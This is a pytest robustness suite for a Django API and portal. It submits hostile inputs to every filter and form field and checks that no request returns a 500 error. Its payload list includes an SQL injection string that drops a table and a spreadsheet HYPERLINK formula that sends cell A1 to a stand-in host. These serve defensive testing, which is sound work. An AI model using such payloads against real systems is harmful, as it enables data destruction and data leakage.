"""Hostile strings in every text filter and form field, of the API and of the portal: a NUL byte, 4,000
characters of unicode, SQL and spreadsheet-formula fragments, numbers beyond 64 bits and decimals that
overflow. Every answer is a 2xx, 3xx or 4xx — never a 500 — and under /api/ it is JSON.

The API's fields come from its OpenAPI document (every query parameter, every JSON or form property of
every operation); the portal's from the forms of every page (the list of pages of the browser tests), each
submitted with every field set to the hostile value.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest
from django.test import Client
from django.urls import reverse

from api.main import api
from tests.api.conftest import key_client, session_client
from tests.portal.navigateur.test_toutes_les_pages import PAGES, PUBLIC_PAGES
from tests.portal.navigateur.test_toutes_les_pages import world as world  # noqa: F401, PLC0414 — the fixture

# Autocommit, as in production: a refusal by the database does not poison the next request.
pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = {
    "nul": "MAR\x00TIN",
    "unicode": ("É€𝄞ß漢ﷺ\u202e" * 500)[:4000],
    "sql": "'; DROP TABLE cases_dossier; -- \" OR 1=1 /*",
    "formule": '=HYPERLINK("https://exemple.invalid/?"&A1;"clic")',
    "entier": "1" + "0" * 20,
    "decimal": "1e999999",
    "montant": "9" * 40 + ".99",
}
IDS = {
    "dossier_id": lambda t: t.dossier.pk,
    "facture_id": lambda t: t.facture.pk,
    "reglement_id": lambda t: t.reglement.pk,
    "courrier_id": lambda t: t.courrier.pk,
    "notification_id": lambda t: t.notification.pk,
    "piece_id": lambda t: t.piece.pk,
    "user_id": lambda t: t.gestionnaire.pk,
    "etablissement_id": lambda t: t.etab.pk,
    "cle_id": lambda t: t.key_obj.pk,
    "invitation_id": lambda t: 1,
}


def check(response, where: str) -> None:
    assert response.status_code < 500, f"{where} → {response.status_code}: {response.content[:300]!r}"


# --- API --------------------------------------------------------------------------------------------


def _resolve(schema: dict, node: dict) -> dict:
    while "$ref" in node:
        node = schema["components"]["schemas"][node["$ref"].rsplit("/", 1)[-1]]
    return node


def api_operations():
    schema = api.get_openapi_schema()
    for path, operations in schema["paths"].items():
        for method, operation in operations.items():
            query = [p["name"] for p in operation.get("parameters", []) if p["in"] == "query"]
            body, kind = {}, None
            for content_type, content in (operation.get("requestBody") or {}).get("content", {}).items():
                kind = "json" if "json" in content_type else "form"
                body = _resolve(schema, content["schema"]).get("properties", {})
                if kind == "form" and "payload" in body:  # ninja's form body: a JSON document in one field
                    body = _resolve(schema, body["payload"]).get("properties", {})
            yield method.upper(), path, query, kind, list(body)


OPERATIONS = list(api_operations())


def _url(path: str, tenant) -> str:
    for name, get in IDS.items():
        path = path.replace("{" + name + "}", str(get(tenant)))
    return path


@pytest.mark.parametrize("caller", ["session", "cle"])
def test_every_api_filter_and_field_refuses_hostile_input_without_a_500(caller, tenant_a, opco):
    client = session_client(tenant_a.admin) if caller == "session" else key_client(tenant_a.key)
    client.raise_request_exception = False
    opco_client = session_client(opco)
    opco_client.raise_request_exception = False
    sent = 0
    for method, path, query, kind, fields in OPERATIONS:
        if path.endswith("/auth/deconnexion"):
            continue
        caller_client = opco_client if "/opco/" in path else client
        url = _url(path, tenant_a)
        for label, value in HOSTILE.items():
            for name in query:
                response = caller_client.generic(method, f"{url}?{urlencode({name: value})}")
                sent += 1
                check(response, f"{method} {url}?{name}={label}")
                assert response["Content-Type"].startswith("application/json") or response.status_code < 400
            if method != "GET" and fields:
                if kind == "json":
                    response = caller_client.generic(
                        method, url, _json({name: value for name in fields}), content_type="application/json"
                    )
                else:
                    response = caller_client.post(url, {name: value for name in fields})
                sent += 1
                check(response, f"{method} {url} ({label} dans {', '.join(fields)})")
                assert response["Content-Type"].startswith("application/json"), f"{method} {url}"
    assert sent > 500


def _json(data: dict) -> str:
    return json.dumps(data, ensure_ascii=False)


def test_nul_in_api_input_is_a_field_addressed_422(tenant_a, admin_a):
    listed = admin_a.get("/api/v1/dossiers?dispositif=apprentissage&nom=MAR%00TIN")
    written = admin_a.put(
        f"/api/v1/habilitations/etablissements/{tenant_a.etab.pk}",
        _json({"email": "a\x00b@exemple.fr", "telephone": "0102030405"}),
        content_type="application/json",
    )

    for response, field in ((listed, "nom"), (written, "email")):
        assert response.status_code == 422
        body = response.json()
        assert body["errors"][0]["code"] == "caractere_interdit" and body["errors"][0]["champ"] == field


def test_numbers_beyond_the_database_are_4xx_in_the_error_shape(admin_a, tenant_a):
    big = "1" + "0" * 20
    for url in (
        f"/api/v1/dossiers?dispositif=apprentissage&page={big}",
        f"/api/v1/dossiers/{big}",
        f"/api/v1/factures?montant_ttc_min={'9' * 40}",
        "/api/v1/paiements?montant_min=1e999999",
    ):
        response = admin_a.get(url)
        assert 400 <= response.status_code < 500, url
        assert set(response.json()) == {"description", "errors"}, url


# --- Portal -----------------------------------------------------------------------------------------


class Forms(HTMLParser):
    """The forms of a page: method, action and the fields (name → value of hidden fields, else None)."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[dict] = []

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self.forms.append({"method": (a.get("method") or "get").lower(), "action": a.get("action"), "fields": {}})
        elif tag in ("input", "select", "textarea") and self.forms and a.get("name"):
            if a.get("type") in ("submit", "button", "file", "image", "reset"):
                return
            hidden = a.get("type") == "hidden" or a["name"] == "csrfmiddlewaretoken"
            self.forms[-1]["fields"][a["name"]] = a.get("value", "") if hidden else None


def page_forms(html: str) -> list[dict]:
    parser = Forms()
    parser.feed(html)
    return [f for f in parser.forms if f["fields"]]


def submit_hostile(client: Client, url: str, form: dict, value: str):
    action = form["action"] or url
    data = {name: (hidden if hidden is not None else value) for name, hidden in form["fields"].items()}
    if form["method"] == "post":
        return action, client.post(action, data)
    return action, client.get(action.split("?")[0], data)


def test_every_portal_form_field_refuses_hostile_input_without_a_500(world, tenant_a):  # noqa: F811
    sent = 0
    for name, args in {**PAGES, **PUBLIC_PAGES}.items():
        url = reverse(f"portal:{name}", kwargs=args(world))
        for label, value in HOSTILE.items():
            client = Client(raise_request_exception=False)
            if name in PAGES:
                client.force_login(tenant_a.admin)
            page = client.get(url)
            check(page, f"GET {url}")
            for form in page_forms(page.content.decode()):
                if (form["action"] or "").endswith(reverse("portal:deconnexion")):
                    continue
                action, response = submit_hostile(client, url, form, value)
                sent += 1
                check(response, f"{form['method'].upper()} {action} ({label}, champs {sorted(form['fields'])})")
    assert sent > 200


def test_nul_in_a_portal_filter_is_told_on_its_field(admin_a):
    response = admin_a.get("/factures/", {"reference": "FAC\x00"})

    assert response.status_code == 422
    assert "Référence : Le caractère nul n’est pas autorisé." in response.content.decode()
